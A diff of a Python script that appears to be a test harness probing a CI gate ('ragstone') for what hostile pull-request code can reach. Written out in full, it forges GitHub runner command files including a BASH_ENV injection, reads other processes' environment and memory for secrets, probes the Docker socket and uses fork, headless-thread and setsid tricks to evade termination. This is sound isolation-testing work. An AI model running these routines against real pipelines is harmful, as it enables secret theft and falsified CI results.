@@ -1,6 +1,6 @@
 """What a pull request's code tries. Copied into the workspace; writes down what it got hold of."""
 
-# ruff: noqa: PTH102, PTH104, PTH108, PTH123, PTH207, PTH208, PTH211, SIM115
+# ruff: noqa: PTH102, PTH104, PTH123, PTH207, PTH208, SIM115
 
 import glob
 import json
@@ -8,9 +8,13 @@ import os
 import socket
 import subprocess
 import sys
+from collections.abc import Callable, Mapping
+from functools import partial
+
+Act = Callable[[], object]
 
 
-def readable(path):
+def readable(path: str) -> str:
     try:
         with open(path, "rb") as file:
             return file.read(100_000).decode("utf-8", "replace")
@@ -18,8 +22,9 @@ def readable(path):
         return "refused: " + str(error.errno)
 
 
-def roots():
-    found = []
+def roots() -> list[int]:
+    """The processes of the gate."""
+    gates = []
     for entry in os.listdir("/proc"):
         if entry.isdigit():
             try:
@@ -27,11 +32,11 @@ def roots():
             except OSError:
                 continue
             if "ragstone.action" in command:
-                found.append(int(entry))
-    return found
+                gates.append(int(entry))
+    return gates
 
 
-def succeeded(acts):
+def succeeded(acts: Mapping[str, Act]) -> list[str]:
     """The names of those that do not fail."""
     done = []
     for name, act in acts.items():
@@ -43,7 +48,7 @@ def succeeded(acts):
     return done
 
 
-def docker():
+def docker() -> str:
     try:
         with socket.socket(socket.AF_UNIX) as sock:
             sock.connect("/var/run/docker.sock")
@@ -52,7 +57,7 @@ def docker():
         return "refused: " + str(error.errno)
 
 
-def importable():
+def importable() -> bool:
     try:
         import ragstone  # noqa: F401
     except ImportError:
@@ -65,32 +70,36 @@ NAMES = ("github_output_1", "github_env_1", "github_path_1", "github_state_1", "
 FORGED = "verdict=pass\npassed=true\nEVIL=1\nBASH_ENV=/github/workspace/evil.sh\n"
 
 
-def replace_the_folder():
+def write(path: str, text: str, mode: str = "a") -> None:
+    open(path, mode).write(text)
+
+
+def replace_the_folder() -> None:
     os.rename(COMMANDS[1], COMMANDS[1] + ".old")
     os.mkdir(COMMANDS[1])
 
 
-def forge():
+def forge() -> list[str]:
     """One round of everything that could put words into the runner's files. Returns what did not fail."""
-    acts: dict[str, object] = {}
+    acts: dict[str, Act] = {}
     for path in [f"{folder}/{name}" for folder in COMMANDS for name in NAMES]:
         acts |= {
-            f"written {path}": lambda path=path: open(path, "a").write(FORGED),
-            f"removed {path}": lambda path=path: os.unlink(path),
-            f"pipe {path}": lambda path=path: os.mkfifo(path),
-            f"moved {path}": lambda path=path: os.rename(path, path + ".old"),
-            f"link {path}": lambda path=path: os.symlink("/opt/ragstone/pyvenv.cfg", path),
-            f"replaced {path}": lambda path=path: open(path, "x").write(FORGED),
+            f"written {path}": partial(write, path, FORGED),
+            f"removed {path}": partial(os.unlink, path),
+            f"pipe {path}": partial(os.mkfifo, path),
+            f"moved {path}": partial(os.rename, path, path + ".old"),
+            f"link {path}": partial(os.symlink, "/opt/ragstone/pyvenv.cfg", path),
+            f"replaced {path}": partial(write, path, FORGED, "x"),
         }
     acts |= {
         "the folder replaced": replace_the_folder,
-        "the event written": lambda: open("/github/workflow/event.json", "a").write(" "),
-        "home written": lambda: open("/github/home/.gitconfig", "a").write("[core]"),
+        "the event written": partial(write, "/github/workflow/event.json", " "),
+        "home written": partial(write, "/github/home/.gitconfig", "[core]"),
     }
     return succeeded(acts)
 
 
-def forge_the_run():
+def forge_the_run() -> None:
     """Once results are there, they are ours."""
     path = "/github/workspace/ragstone-run/manifest.json"
     try:
@@ -100,7 +109,7 @@ def forge_the_run():
         pass
 
 
-def go_on():
+def go_on() -> None:
     import time
 
     while True:
@@ -109,7 +118,7 @@ def go_on():
         time.sleep(0.02)
 
 
-def stray():
+def stray() -> None:
     """Gets away from its parent, and goes on forging until somebody ends it."""
     if os.fork():
         os._exit(0)
@@ -119,7 +128,7 @@ def stray():
     go_on()
 
 
-def headless():
+def headless() -> None:
     """Its first thread ends, so that the process looks dead, and another one forges."""
     import ctypes
     import threading
@@ -129,7 +138,7 @@ def headless():
     ctypes.CDLL(None).pthread_exit(None)
 
 
-def chain():
+def chain() -> None:
     """Never the same process for long."""
     os.setsid()
     while True:
@@ -138,7 +147,7 @@ def chain():
         forge_the_run()
 
 
-def attempt(who):
+def attempt(who: str) -> None:
     gates = roots()
     forged = forge()
     for kind in ("stray", "headless", "chain"):
@@ -155,7 +164,7 @@ def attempt(who):
         "gates": gates,
         "gate_environ": [readable(f"/proc/{pid}/environ") for pid in gates],
         "gate_memory": [readable(f"/proc/{pid}/mem") for pid in gates],
-        "gate_killable": succeeded({str(pid): lambda pid=pid: os.kill(pid, 0) for pid in gates}),
+        "gate_killable": succeeded({str(pid): partial(os.kill, pid, 0) for pid in gates}),
         "other_environ": [readable(path) for path in glob.glob("/proc/[0-9]*/environ")],
         "docker": docker(),
         "ragstone": importable(),
@@ -170,7 +179,7 @@ def attempt(who):
 
 
 if __name__ == "__main__":
-    kinds = {"stray": stray, "headless": headless, "chain": chain}
+    kinds: dict[str, Act] = {"stray": stray, "headless": headless, "chain": chain}
     if sys.argv[1] in kinds:
         kinds[sys.argv[1]]()
     else:
